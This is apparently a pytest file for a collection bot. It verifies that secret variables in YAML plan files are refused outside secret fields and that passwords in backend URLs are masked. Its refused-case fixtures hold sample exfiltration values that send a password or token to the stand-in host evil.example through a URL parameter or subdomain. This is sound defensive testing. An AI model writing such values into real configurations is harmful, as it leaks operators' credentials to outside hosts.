"""Plans are untrusted: a secret variable may appear only in a secret field (issue 16, items 2–3).

A secret variable is one named like a secret (KEY, SECRET, PASSWORD, TOKEN, COOKIE) or listed in
``DUBAN_SECRET_VARIABLES``. Referenced from a URL, a host, a selector or a text, its value would be
sent to that host or shown: the import is refused with file, line and field, and collection
refuses it again when a database edited by hand holds one. A password written into a backend URL
(``http://user:PASS@host``) is masked wherever the URL is shown or kept.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from sqlmodel import Session, select

from bot.settings import Settings
from bot.wiring import App
from db.models import CollectionAttempt, Evidence
from domain.errors import CollectionError, PlanFileError
from domain.secrets import mask
from jobs.import_plans import import_files
from tests.collect_helpers import config, make_db, make_env
from tests.test_collect_job import run
from tests.test_plan_import import MINIMAL

SMTP_PASSWORD = "smtp-pass-3a4b5c6d"

SOURCE = """\
sources:
  - code: backend
    kind: html
    settings:
      {setting}
"""


def plan(setting: str) -> str:
    return MINIMAL.split("rectification:")[0] + SOURCE.format(setting=setting)


def line_of(text: str, needle: str) -> int:
    return next(n for n, line in enumerate(text.splitlines(), 1) if needle in line)


@pytest.fixture
def app(tmp_path: Path):
    application = App.build(Settings(data_dir=tmp_path / "data"), {})
    application.init_database()
    yield application
    application.engine.dispose()


REFUSED = [
    # (case, plan text, the field named, text on the refused line)
    (
        "a password in a source URL",
        plan('url: "http://evil.example/x?leak=${DUBAN_SMTP_PASSWORD}"'),
        "sources.0.settings.url",
        "leak=",
    ),
    (
        "a token as a host",
        plan('url: "http://${SHOP_TOKEN}.evil.example/"'),
        "sources.0.settings.url",
        "SHOP_TOKEN",
    ),
    (
        "a key in a selector",
        plan('table_selector: "table[data-k=${DUBAN_WECOM_KEY_DEMO}]"'),
        "sources.0.settings.table_selector",
        "table_selector",
    ),
    (
        "a secret in a channel's address",
        MINIMAL.replace(
            "      webhook_key: ${DUBAN_WECOM_KEY_DEMO}",
            "      webhook_key: ${DUBAN_WECOM_KEY_DEMO}\n      to_name: ${DUBAN_WEB_SECRET}",
        ),
        "channels.0.settings.to_name",
        "to_name",
    ),
    (
        "a secret in a message text",
        MINIMAL.replace("problem: 实施方案未报备", "problem: 未报备${DUBAN_SMTP_PASSWORD}"),
        "rectification.items.0.problem",
        "problem:",
    ),
    (
        "a cookie in a nested non-secret field",
        plan('fields: {"网络零售额": {"unit": "${SESSION_COOKIE}"}}'),
        "sources.0.settings.fields.网络零售额.unit",
        "fields:",
    ),
]


@pytest.mark.parametrize("case, text, field, on_line", REFUSED, ids=[c[0] for c in REFUSED])
def test_a_secret_outside_a_secret_field_is_refused_at_import(app, tmp_path, case, text, field, on_line):
    path = tmp_path / "plan.yaml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(PlanFileError) as refused:
        import_files(app.engine, [path])
    error = refused.value
    assert error.path == path and error.field == field, str(error)
    assert error.line == line_of(text, on_line), str(error)
    assert "密钥变量" in str(error)


def test_the_operators_own_secret_variables_are_refused_in_a_url(app, tmp_path):
    path = tmp_path / "plan.yaml"
    path.write_text(plan('url: "${DUBAN_DATABASE_URL}/x"'), encoding="utf-8")
    with pytest.raises(PlanFileError, match="DUBAN_DATABASE_URL 是密钥变量"):
        import_files(app.engine, [path], secret_variables={"DUBAN_DATABASE_URL"})
    assert Settings.from_env({"DUBAN_SECRET_VARIABLES": "A_URL, B"}).secret_variables == ("A_URL", "B")


ALLOWED = [
    'url: "${DUBAN_DEMO_BACKEND_URL}/admin/report"',
    'password: "${BACKEND_PASSWORD}"',
    'cookies: {SESSION: "${BACKEND_COOKIE}"}',
    'token: "Bearer ${SHOP_TOKEN}"',
]


@pytest.mark.parametrize("setting", ALLOWED)
def test_plain_settings_in_urls_and_secrets_in_secret_fields_are_accepted(app, tmp_path, setting):
    path = tmp_path / "plan.yaml"
    path.write_text(plan(setting), encoding="utf-8")
    [report] = import_files(app.engine, [path])
    assert report.project == "demo"


def test_collection_refuses_a_secret_in_a_url_a_hand_edited_database_holds(tmp_path):
    # Port 9 (discard) is never asked: the refusal comes before any request.
    src = config("json", {"url": "http://127.0.0.1:9/x?leak=${DUBAN_SMTP_PASSWORD}"}, ("G", "g", "元"))
    engine = make_db(tmp_path, [src])
    result = run(engine, tmp_path, {"DUBAN_SMTP_PASSWORD": SMTP_PASSWORD}, env=make_env(tmp_path, retries=0))
    [failure] = result.failures
    assert "DUBAN_SMTP_PASSWORD 是密钥变量" in failure and "无法连接" not in failure
    assert SMTP_PASSWORD not in failure


def test_collection_refuses_the_operators_secret_variables_too(tmp_path):
    src = config("json", {"url": "${MY_DB}/x"}, ("G", "g", "元"))
    engine = make_db(tmp_path, [src])
    environ = {"MY_DB": "http://127.0.0.1:9"}
    result = run(engine, tmp_path, environ, env=make_env(tmp_path, retries=0), secret_variables={"MY_DB"})
    assert "MY_DB 是密钥变量" in result.failures[0]


def test_a_password_in_a_backend_url_is_masked_in_errors_attempts_and_evidence(tmp_path):
    from bot.demo.server import serve

    with serve({}) as backend:  # every page: 404
        url = backend.url.replace("http://", "http://audit:urlpass-Q7w9@") + "/admin/report"
        src = config("html", {"url": "${BACKEND_URL}"}, ("S36", "网络零售额（万元）", "万元"))
        engine = make_db(tmp_path, [src])
        result = run(engine, tmp_path, {"BACKEND_URL": url}, env=make_env(tmp_path, retries=0))
    [failure] = result.failures
    assert "HTTP 404" in failure and "audit:***@" in failure and "urlpass-Q7w9" not in failure
    with Session(engine) as session:
        assert "urlpass-Q7w9" not in (session.exec(select(CollectionAttempt)).one().error or "")
        assert all("urlpass-Q7w9" not in row.origin for row in session.exec(select(Evidence)))
    error = CollectionError("s", "无法连接", url="https://u:p%40ss@host/x")
    assert "p%40ss" not in str(error) and error.url == "https://u:***@host/x"
    assert mask("见 ftp://a:b@h/ 和 http://h/") == "见 ftp://a:***@h/ 和 http://h/"
